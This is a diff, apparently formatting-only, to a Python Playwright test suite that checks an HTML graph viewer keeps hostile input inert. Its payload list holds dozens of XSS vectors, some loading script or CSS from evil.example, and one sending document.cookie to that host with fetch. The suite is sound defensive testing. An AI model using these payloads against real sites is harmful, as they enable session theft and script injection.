@@ -27,25 +27,25 @@ from graph.when import parse_when
 PWN = "window.__pwned=1"
 PAYLOADS = [
     f"<script>{PWN}</script>",
-    "<script src=\"https://evil.example/x.js\"></script>",
+    '<script src="https://evil.example/x.js"></script>',
     f"</script><script>{PWN}</script>",
     f"<!--</script><script>{PWN}</script>-->",
-    f"<img src=x onerror=\"{PWN};alert(1)\">",
-    "<img src=\"https://evil.example/pixel.png\">",
+    f'<img src=x onerror="{PWN};alert(1)">',
+    '<img src="https://evil.example/pixel.png">',
     f"<svg onload={PWN}>",
     f"<svg><script>{PWN}</script></svg>",
     f"<body onload={PWN}>",
-    f"<iframe src=\"javascript:{PWN}\"></iframe>",
-    f"<iframe srcdoc=\"<script>parent.{PWN}</script>\"></iframe>",
-    f"<a href=\"javascript:{PWN}\">click me</a>",
+    f'<iframe src="javascript:{PWN}"></iframe>',
+    f'<iframe srcdoc="<script>parent.{PWN}</script>"></iframe>',
+    f'<a href="javascript:{PWN}">click me</a>',
     f"javascript:{PWN}",
     f"JaVaScRiPt:{PWN}",
     "  javascript:alert(1)",
     f"data:text/html,<script>{PWN}</script>",
     "vbscript:msgbox(1)",
-    f"\"><script>{PWN}</script>",
+    f'"><script>{PWN}</script>',
     f"'><img src=x onerror={PWN}>",
-    f"\" onmouseover=\"{PWN}\" x=\"",
+    f'" onmouseover="{PWN}" x="',
     f"' onfocus='{PWN}' autofocus='",
     f"<details open ontoggle={PWN}>",
     f"<input autofocus onfocus={PWN}>",
@@ -53,11 +53,11 @@ PAYLOADS = [
     f"<math><mtext><table><mglyph><style><img src=x onerror={PWN}>",
     "<style>@import 'https://evil.example/x.css';</style>",
     "<link rel=stylesheet href=https://evil.example/x.css>",
-    f"<meta http-equiv=\"refresh\" content=\"0;url=javascript:{PWN}\">",
-    f"<object data=\"javascript:{PWN}\"></object>",
-    f"<embed src=\"javascript:{PWN}\">",
-    f"<form action=\"javascript:{PWN}\"><button>go</button></form>",
-    "<base href=\"https://evil.example/\">",
+    f'<meta http-equiv="refresh" content="0;url=javascript:{PWN}">',
+    f'<object data="javascript:{PWN}"></object>',
+    f'<embed src="javascript:{PWN}">',
+    f'<form action="javascript:{PWN}"><button>go</button></form>',
+    '<base href="https://evil.example/">',
     f"{{{{constructor.constructor('{PWN}')()}}}}",
     f"${{{PWN}}}",
     f"`;{PWN};`",
@@ -65,7 +65,7 @@ PAYLOADS = [
     f"&lt;script&gt;{PWN}&lt;/script&gt;",
     f"\u2028\u2029</script><script>{PWN}</script>",
     f"<scr<script>ipt>{PWN}</scr</script>ipt>",
-    f"<x onclick={PWN} style=\"position:fixed;inset:0\">cover</x>",
+    f'<x onclick={PWN} style="position:fixed;inset:0">cover</x>',
     "fetch('https://evil.example/?c='+document.cookie)",
     "<img src=x onerror=\"fetch('https://evil.example/')\">",
 ]
@@ -76,40 +76,66 @@ def injection_dataset():
     types = [t for t in RELATION_TYPES]
     entities, sources, relations = {}, {}, []
     for i, p in enumerate(PAYLOADS):
-        eid = f"E{i}" if i % 5 else f"E{i}{p[:12]}"      # some ids carry markup too
+        eid = f"E{i}" if i % 5 else f"E{i}{p[:12]}"  # some ids carry markup too
         entities[eid] = Entity(
-            id=eid, name=f"{p} #{i}", kind="state" if i % 3 else p, aliases=(p, f"alias{i} {p}"),
-            codes={"wikidata": p, "cameo": p, p: p}, part_of=None, description=f"{p} described")
+            id=eid,
+            name=f"{p} #{i}",
+            kind="state" if i % 3 else p,
+            aliases=(p, f"alias{i} {p}"),
+            codes={"wikidata": p, "cameo": p, p: p},
+            part_of=None,
+            description=f"{p} described",
+        )
         sid = f"S{i}"
-        sources[sid] = Source(id=sid, title=p, kind=p if i % 2 else "op-ed", published=parse_when("2024"),
-                              author=p, outlet=p, url=p if i % 2 else f"https://example.org/{i}?q={p}",
-                              perspective=p, text=p)
+        sources[sid] = Source(
+            id=sid,
+            title=p,
+            kind=p if i % 2 else "op-ed",
+            published=parse_when("2024"),
+            author=p,
+            outlet=p,
+            url=p if i % 2 else f"https://example.org/{i}?q={p}",
+            perspective=p,
+            text=p,
+        )
     ids = list(entities)
     for i, p in enumerate(PAYLOADS):
         t = types[i % len(types)]
         modes = RELATION_TYPES[t].modes
-        relations.append(Relation(
-            id=f"r{i}" if i % 7 else f"r{i}{p[:10]}", subject=ids[i], object=ids[(i + 1) % n], type=t,
-            modality=("reported", "claimed", "recommended", "speculated", "denied")[i % 5] if i % 4 else p,
-            polarity=RELATION_TYPES[t].polarity, mode=p if not modes or i % 2 else modes[0],
-            context=(p, "military"), asserted_by=ids[(i + 2) % n] if i % 3 else p,
-            when=parse_when(("2021", "2022-03", "2023-01-02", "2021..2024")[i % 4]),
-            evidence=(Evidence(f"S{i}", p), Evidence(f"S{(i + 1) % n}", f"quote {i}: {p}")),
-            attributes={p: p, f"k{i}": p, "n": i, "nested": {p: [p, i]}}, note=f"{p}\n{p}"))
+        relations.append(
+            Relation(
+                id=f"r{i}" if i % 7 else f"r{i}{p[:10]}",
+                subject=ids[i],
+                object=ids[(i + 1) % n],
+                type=t,
+                modality=("reported", "claimed", "recommended", "speculated", "denied")[i % 5] if i % 4 else p,
+                polarity=RELATION_TYPES[t].polarity,
+                mode=p if not modes or i % 2 else modes[0],
+                context=(p, "military"),
+                asserted_by=ids[(i + 2) % n] if i % 3 else p,
+                when=parse_when(("2021", "2022-03", "2023-01-02", "2021..2024")[i % 4]),
+                evidence=(Evidence(f"S{i}", p), Evidence(f"S{(i + 1) % n}", f"quote {i}: {p}")),
+                attributes={p: p, f"k{i}": p, "n": i, "nested": {p: [p, i]}},
+                note=f"{p}\n{p}",
+            )
+        )
     return Dataset(sources, entities, relations)
 
 
 def injection_texts():
     """A stored text for every source, holding the payloads and the quotes of its claims."""
     n = len(PAYLOADS)
-    return {f"S{i}": f"{p} opens the text. Then: {p}. And later quote {(i - 1) % n}: {PAYLOADS[(i - 1) % n]} -- {p}"
-            for i, p in enumerate(PAYLOADS)}
+    return {
+        f"S{i}": f"{p} opens the text. Then: {p}. And later quote {(i - 1) % n}: {PAYLOADS[(i - 1) % n]} -- {p}"
+        for i, p in enumerate(PAYLOADS)
+    }
 
 
 @pytest.fixture(scope="module")
 def injection_page(tmp_path_factory):
-    return write_html(injection_dataset(), tmp_path_factory.mktemp("injection") / "injection.html",
-                      texts=injection_texts())
+    return write_html(
+        injection_dataset(), tmp_path_factory.mktemp("injection") / "injection.html", texts=injection_texts()
+    )
 
 
 def test_payloads_in_stored_texts_stay_text_in_the_reader(open_page, injection_page):
@@ -120,7 +146,7 @@ def test_payloads_in_stored_texts_stay_text_in_the_reader(open_page, injection_p
         shown = p.page.locator("#ag-reader .ag-reader-text").text_content()
         assert shown == text
         marks = p.page.locator("#ag-reader mark")
-        assert marks.count() >= 2          # its two quotes are highlighted
+        assert marks.count() >= 2  # its two quotes are highlighted
         for i in range(marks.count()):
             marks.nth(i).click()
         assert_inert(p)
@@ -140,7 +166,7 @@ def _page_scripts(browser, seed_page):
     ctx = browser.new_context()
     page = ctx.new_page()
     page.route("**/*", lambda r: r.continue_() if r.request.url.startswith("file:") else r.abort())
-    page.goto(Path(seed_page).as_uri())   # write_html returns the absolute path as text
+    page.goto(Path(seed_page).as_uri())  # write_html returns the absolute path as text
     page.wait_for_function("() => document.documentElement.dataset.ready === '1'", timeout=30000)
     BASELINE[:] = [page.evaluate(COUNT_FOREIGN)]
     ctx.close()
@@ -167,7 +193,8 @@ def test_the_payload_list_is_long_enough():
 
 
 # The page reset, and where the entity or relation is on screen.
-AT = """([kind, id]) => { actorgraph.reset(); return kind === 'node' ? actorgraph.nodePoint(id) : actorgraph.edgePoint(id); }"""
+AT = """([kind, id]) => {
+    actorgraph.reset(); return kind === 'node' ? actorgraph.nodePoint(id) : actorgraph.edgePoint(id); }"""
 # The record selected, the text of its panel and, when asked, every visible button of the panel
 # clicked in turn (the panel is drawn again after each click: the i-th button of the panel as it
 # is then), in one round trip to the page.
@@ -189,14 +216,17 @@ SHOW = """([kind, id, buttons]) => {
 # 12), the time sliders to each end, the filter buttons clicked: each through the event the page
 # listens to.
 FILTERS = """() => {
-    const seen = el => el.offsetParent !== null, fire = (el, type) => el.dispatchEvent(new Event(type, {bubbles: true}));
+    const seen = el => el.offsetParent !== null;
+    const fire = (el, type) => el.dispatchEvent(new Event(type, {bubbles: true}));
     const used = {boxes: 0, options: 0};
     for (const box of document.querySelectorAll('#ag-filters input[type=checkbox]')) {
         if (!seen(box)) continue;
         box.click(); box.click(); used.boxes++;
     }
     for (const sel of document.querySelectorAll('#ag-filters select')) {
-        for (const o of [...sel.options].slice(0, 12)) { sel.value = o.value; fire(sel, 'input'); fire(sel, 'change'); used.options++; }
+        for (const o of [...sel.options].slice(0, 12)) {
+            sel.value = o.value; fire(sel, 'input'); fire(sel, 'change'); used.options++;
+        }
     }
     for (const rng of document.querySelectorAll('#ag-filters input[type=range]')) {
         for (const v of [rng.min, rng.max]) { rng.value = v; fire(rng, 'input'); fire(rng, 'change'); }
@@ -220,7 +250,7 @@ def test_payloads_in_every_field_run_nothing_while_everything_is_used(open_page,
     # every entity: hover (tooltip), click (panel), and the buttons of its panel
     for k, nid in enumerate(ds.entities):
         pt = p.js(AT, ["node", nid])
-        page.mouse.move(pt["x"], pt["y"], steps=2)      # (from the last record: onto this one, a hover)
+        page.mouse.move(pt["x"], pt["y"], steps=2)  # (from the last record: onto this one, a hover)
         page.mouse.click(pt["x"], pt["y"])
         shown = p.js(SHOW, ["node", nid, k % 3 == 0])
         assert ds.entities[nid].name in shown["text"]
@@ -261,8 +291,10 @@ def test_payloads_in_every_field_run_nothing_while_everything_is_used(open_page,
         page.press("#ag-search", "Enter")
     # hostile fragments
     for payload in PAYLOADS[:12]:
-        page.evaluate("(h) => { location.hash = h; }",
-                      f"entity={payload}&relation={payload}&focus={payload}&type={payload}&src={payload}")
+        page.evaluate(
+            "(h) => { location.hash = h; }",
+            f"entity={payload}&relation={payload}&focus={payload}&type={payload}&src={payload}",
+        )
     for button in ("#ag-json", "#ag-png"):
         with page.expect_download():
             page.click(button)
@@ -275,6 +307,8 @@ def test_a_payload_in_the_fragment_on_load_runs_nothing(open_page, injection_pag
     from urllib.parse import quote
 
     payload = quote(PAYLOADS[i], safe="")
-    p = open_page(injection_page, f"entity={payload}&relation={payload}&focus={payload}&hops={payload}"
-                                  f"&from={payload}&src={payload}")
+    p = open_page(
+        injection_page,
+        f"entity={payload}&relation={payload}&focus={payload}&hops={payload}&from={payload}&src={payload}",
+    )
     assert_inert(p)
